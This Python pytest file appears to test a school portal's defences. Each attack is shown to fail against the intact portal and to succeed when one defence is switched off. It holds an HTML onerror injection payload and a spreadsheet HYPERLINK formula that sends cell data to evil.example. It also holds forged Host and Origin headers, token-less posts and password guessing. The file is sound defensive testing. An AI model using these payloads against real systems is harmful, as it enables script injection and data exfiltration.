"""The test of the tests: each attack fails against the portal as it is, and succeeds as soon as one defence is taken out."""

from __future__ import annotations

from collections.abc import Callable

import invented_run
import portal_pages
import pytest
import served_otherwise
import served_portal
from served_portal import FOREIGN, OWN, Served

NAME = '<img src="x" onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://evil.example/" & A1)'
CODE = portal_pages.CODE
OF_OTHER_CLASS = served_portal.codes_of_class(OWN, "10.b")[0]


def reads_a_foreign_school(served: Served) -> bool:
    answer = served.reader("director.101").ask(f"/lv/school/{FOREIGN}")
    return answer.status == 200 and served_portal.CODES[FOREIGN][0] in answer.body


def reads_another_class(served: Served) -> bool:
    answer = served.reader("class_teacher.101").ask(f"/lv/school/{OWN}")
    return OF_OTHER_CLASS in answer.body


def comes_by_another_name_of_the_host(served: Served) -> bool:
    return served.reader().ask("/lv/login", Host="evil.example").status == 200


def changes_something_without_a_token(served: Served) -> bool:
    return served.reader("director.101").post(f"/lv/school/{OWN}/places", {"places": "5"}).status == 303


def changes_something_from_another_site(served: Served) -> bool:
    reader = served.reader("director.101")
    form = {"token": reader.token_on("/lv/about"), "places": "6"}
    answer = reader.post(
        f"/lv/school/{OWN}/places", form, **{"Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"}
    )
    return answer.status == 303


def guesses_on_and_on(served: Served) -> bool:
    return {served.reader().log_in("support_staff.101", f"guess {number}").status for number in range(8)} == {401}


def puts_a_name_into_the_page_as_html(served: Served) -> bool:
    return NAME in served.reader("director.101").ask(f"/lv/school/{OWN}").body


def puts_a_greeting_into_the_page_as_html(served: Served) -> bool:
    return NAME in served.reader("hostile").ask("/lv/about").body


def puts_a_formula_into_a_spreadsheet(served: Served) -> bool:
    cells = served.reader("director.101").ask(f"/lv/school/{OWN}/list.csv").body.replace("\r\n", ";").split(";")
    return any(cell.strip('"').startswith("=HYPERLINK") for cell in cells)


ATTACKS: dict[str, Callable[[Served], bool]] = {
    "policy": reads_a_foreign_school,
    "cut": reads_another_class,
    "host": comes_by_another_name_of_the_host,
    "token": changes_something_without_a_token,
    "origin": changes_something_from_another_site,
    "throttle": guesses_on_and_on,
    "escaping of names": puts_a_name_into_the_page_as_html,
    "escaping of pages": puts_a_greeting_into_the_page_as_html,
    "formulas": puts_a_formula_into_a_spreadsheet,
}


@pytest.fixture(scope="module")
def switch(tmp_path_factory):
    return tmp_path_factory.mktemp("switch") / "out"


@pytest.fixture(scope="module")
def weak(tmp_path_factory, switch):
    """A portal of which a test can take a defence out."""
    folder = tmp_path_factory.mktemp("weak")
    invented_run.publish(folder / "store")
    people = {login: grants for login, grants in served_portal.PEOPLE.items() if login.endswith(f".{OWN}")}
    served_portal.make_register(folder / "store", people)
    with served_portal.open_register(served_portal.register_file(folder / "store")) as register:
        register.accounts.add("hostile", NAME, served_portal.PASSWORD, "lv", people["director.101"], "test")
    served_portal.give_names(folder / "store", {CODE: ("Jānis", NAME), OF_OTHER_CLASS: (FORMULA, "")})
    served = served_portal.start(folder / "store", folder / "log", before=served_otherwise.with_switch(switch))
    yield served
    served.stop()


@pytest.mark.parametrize("defence", ATTACKS)
def test_an_attack_fails_because_of_the_defence_against_it(weak, switch, defence):
    switch.write_text("", "utf-8")
    assert not ATTACKS[defence](weak)
    switch.write_text(defence, "utf-8")
    try:
        assert ATTACKS[defence](weak)
    finally:
        switch.write_text("", "utf-8")
